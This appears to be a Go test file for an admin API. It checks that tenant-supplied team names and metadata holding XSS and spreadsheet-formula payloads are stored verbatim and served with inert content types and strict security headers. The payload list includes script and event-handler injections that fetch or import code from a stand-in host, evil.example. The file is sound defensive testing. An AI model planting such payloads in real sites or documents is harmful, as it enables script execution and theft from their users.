package admin

import (
	"encoding/json"
	"fmt"
	"net/http"
	"slices"
	"strings"
	"testing"
)

// markup are texts that a browser, or a spreadsheet, would run if it took them for more than text.
func markup() (all []string) {
	for _, payload := range []string{"alert(1)", "fetch('//evil.example')", "import('//evil.example')"} {
		for _, form := range []string{
			"<script>%s</script>", "<ScRiPt>%s</sCrIpT>", "<script src=x onerror=%s>", "<img src=x onerror=%s>", "<svg onload=%s>", "<svg><script>%s</script></svg>", "<body onload=%s>",
			"<iframe srcdoc='<script>%s</script>'>", "<a href=\"javascript:%s\">x</a>", "javascript:%s", "data:text/html,<script>%s</script>", "\"><script>%s</script>", "'-%s-'", "</title><script>%s</script>",
			"<math><mtext><script>%s</script>", "<details open ontoggle=%s>", "<input autofocus onfocus=%s>", "${%s}", "{{%s}}", "=%s", "+%s", "-%s", "@%s",
		} {
			all = append(all, fmt.Sprintf(form, payload))
		}
	}
	return all
}

// S17, as far as there is an interface: what tenants call things is told as the text that it is, in a form that no browser takes for a page, under
// headers that would let nothing run if one did.
func TestTextStaysText(t *testing.T) {
	w := newWorld(t, "")
	list := markup()
	if len(list) < 60 {
		t.Fatalf("only %d texts", len(list))
	}
	for _, text := range list {
		rec := w.do(w.request(root, byToken, http.MethodPost, "/admin/teams", `{"name":`+quoted(text)+`,"metadata":{"a":`+quoted(text)+`}}`))
		var v struct {
			ID, Name string
			Metadata map[string]string
		}
		if err := json.Unmarshal(rec.Body.Bytes(), &v); err != nil || rec.Code != http.StatusCreated || v.Name != text || v.Metadata["a"] != text {
			t.Fatalf("%q became %d %s", text, rec.Code, rec.Body)
		}
	}
	routes := 0
	for i := range w.handler.table {
		r := &w.handler.table[i]
		if r.Method != http.MethodGet || strings.HasPrefix(r.Path, "/debug/pprof/") {
			continue
		}
		routes++
		for _, who := range []*person{root, {name: "nobody"}} {
			for _, text := range []string{"", list[0], list[len(list)-1]} { // in answers, and in what refusals repeat
				how := byToken
				if who != root {
					how = byNothing
				}
				req := w.request(who, how, http.MethodGet, pathNames.ReplaceAllString(r.Path, "x"), "")
				if text != "" {
					req.URL.RawQuery = "name=" + strings.NewReplacer("<", "%3C", ">", "%3E", "+", "%2B", "#", "%23", "&", "%26").Replace(text)
				}
				rec := w.try(req)
				head := rec.Header()
				kind, _, _ := strings.Cut(head.Get("Content-Type"), ";")
				inert := rec.Body.Len() == 0 || slices.Contains([]string{"", "application/json", "application/problem+json", "application/jsonl", "text/plain"}, kind)
				if csp := head.Get("Content-Security-Policy"); !inert || csp != "default-src 'none'; frame-ancestors 'none'" || head.Get("X-Content-Type-Options") != "nosniff" || head.Get("X-Frame-Options") != "DENY" {
					t.Errorf("%s by %s: %v", r.Path, who.name, head)
				}
			}
		}
	}
	if routes < 30 {
		t.Errorf("only %d routes", routes)
	}
}
